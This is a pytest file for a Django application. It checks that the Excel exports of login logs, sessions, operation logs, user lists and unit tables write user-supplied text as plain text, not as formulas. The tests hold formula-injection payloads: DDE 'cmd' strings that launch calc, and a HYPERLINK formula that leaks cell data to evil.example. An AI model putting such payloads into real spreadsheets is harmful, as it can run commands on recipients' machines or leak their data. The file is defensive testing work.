"""Formula injection: every Excel export writes user text as text (issue #10, item 2).

`assert_written_as_text` checks what Excel would see: the cell's stored type is a string, not a formula,
the text is exactly what was typed (no visible apostrophe), and a text that begins with = + - @ tab or
CR carries the quotePrefix style, so Excel keeps it text when the cell is edited.
"""

from __future__ import annotations

import datetime
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from fazhi.core import excel, services
from fazhi.core.models import Unit

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells_of(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_written_as_text(data: bytes, texts: list[str]) -> None:
    """Each of `texts` is in the workbook as a plain string cell with quotePrefix; no cell is a formula."""
    cells = cells_of(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell was written as a formula"
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found, f"{text!r} is not in the workbook as written"
        assert all(c.data_type == "s" and c.quotePrefix for c in found), text
    # The raw XML holds no <f> element at all: Excel has nothing to run.
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in sheets)


def saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# ------------------------------------------------------------------------------------------- the helper


@pytest.mark.parametrize("write_only", [False, True])
def test_text_cells_never_become_formulas_and_read_back_unchanged(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("表") if write_only else book.active
    excel.append_row(sheet, PAYLOADS)
    data = saved(book)
    assert_written_as_text(data, PAYLOADS)
    row = next(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True))
    assert list(row) == PAYLOADS  # no apostrophe or other mark is added to the value


@pytest.mark.parametrize("write_only", [False, True])
def test_numbers_dates_and_plain_text_keep_their_types(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("表") if write_only else book.active
    day, moment = datetime.date(2024, 6, 30), datetime.datetime(2024, 6, 30, 9, 15)
    excel.append_row(sheet, [-5, 3.25, 0, day, moment, True, None, "普通文字", "2024-06-30", "-"])
    cells = cells_of(saved(book))
    by_value = {c.column: c for c in cells}
    assert (by_value[1].value, by_value[1].data_type) == (-5, "n")  # a negative number stays a number
    assert (by_value[2].value, by_value[2].data_type) == (3.25, "n")
    assert (by_value[3].value, by_value[3].data_type) == (0, "n")
    assert by_value[4].is_date and by_value[4].value.date() == day
    assert by_value[5].is_date and by_value[5].value == moment
    assert (by_value[6].value, by_value[6].data_type) == (True, "b")
    assert by_value[7].value is None
    assert (by_value[8].value, by_value[8].data_type, by_value[8].quotePrefix) == ("普通文字", "s", False)
    assert (by_value[9].value, by_value[9].data_type) == ("2024-06-30", "s")  # text that looks like a date stays text
    assert (by_value[10].value, by_value[10].data_type, by_value[10].quotePrefix) == ("-", "s", True)


def test_characters_xml_cannot_hold_are_dropped_instead_of_failing_the_file():
    book = Workbook()
    excel.append_row(book.active, ["a\x00b\x07c", "=x\x00"])
    cells = cells_of(saved(book))
    assert [c.value for c in cells] == ["abc", "=x"] and cells[1].quotePrefix


def test_set_value_rewrites_an_existing_cell_as_text():
    book = Workbook()
    cell = book.active["B2"]
    cell.value = "=1+1"
    assert cell.data_type == "f"  # what openpyxl does on its own
    excel.set_value(cell, "=1+1")
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


# ------------------------------------------------------------------------------------------- the exports


def export_bytes(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


def test_login_log_export_writes_an_anonymous_attempts_name_as_text(client, users, login):
    name, agent = "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"
    client.post("/login/", {"username": name, "password": "Wrong#Pass1"}, HTTP_USER_AGENT=agent)
    data = export_bytes(login(users.auditor).get("/logs/logins/?export=xlsx"))
    assert_written_as_text(data, [name, agent])
    times = [c for c in cells_of(data) if c.column == 1 and c.row > 1]
    assert times and all(c.is_date for c in times)  # the 时间 column stays a typed date-time


def test_online_session_export_writes_the_client_header_as_text(client, users, login):
    from fazhi.core.models import OnlineSession
    from tests.conftest import PASSWORD

    agent = "=HYPERLINK(\"http://evil.example\",\"客户端\")"
    client.post("/login/", {"username": "t_reporter", "password": PASSWORD}, HTTP_USER_AGENT=agent)
    assert OnlineSession.objects.filter(user_agent=agent).exists()
    data = export_bytes(login(users.secadmin).get("/sessions/?export=xlsx"))
    assert_written_as_text(data, [agent])


def test_operation_log_export_writes_object_names_as_text(client, users, org, login):
    services.rename_unit(users.sysadmin, org.reform, "@SUM(1+1)*cmd|' /C calc'!A0")
    data = export_bytes(login(users.auditor).get("/logs/operations/?export=xlsx"))
    assert_written_as_text(data, ["@SUM(1+1)*cmd|' /C calc'!A0"])


def test_user_list_export_writes_names_as_text(client, users, org, login):
    users.reporter.full_name = "+1+cmd|' /C calc'!A0"
    users.reporter.save(update_fields=["full_name"])
    data = export_bytes(login(users.sysadmin).get("/users/?export=xlsx"))
    assert_written_as_text(data, ["+1+cmd|' /C calc'!A0"])


def test_unit_names_in_every_table_export_are_text(org):
    """The shared table (core.tables) behind every list page's export."""
    from django.contrib.auth.models import AnonymousUser
    from django.test import RequestFactory

    from fazhi.core.tables import Column, Table

    Unit.objects.filter(pk=org.reform.pk).update(name="-2+3+cmd|' /C calc'!A0", code="\t=1+1")
    request = RequestFactory().get("/units/", {"export": "xlsx"})
    request.user = AnonymousUser()
    table = Table(Unit.objects.all(), columns=[Column("name", "名称"), Column("code", "代码"),
                                               Column("depth", "层级")]).from_request(request)
    data = b"".join(table.export_xlsx("单位").streaming_content)
    assert_written_as_text(data, ["-2+3+cmd|' /C calc'!A0", "\t=1+1"])
    depths = [c for c in cells_of(data) if c.column == 3 and c.row > 1]
    assert depths and all(isinstance(c.value, int) and c.data_type == "n" for c in depths)  # numbers stay typed


def test_a_control_character_in_a_login_name_no_longer_breaks_the_log_export(client, users, login):
    from fazhi.core.models import LoginLog

    LoginLog.objects.create(username="=evil\x07name", success=False, reason="账号或密码错误")
    data = export_bytes(login(users.auditor).get("/logs/logins/?export=xlsx"))
    assert_written_as_text(data, ["=evilname"])
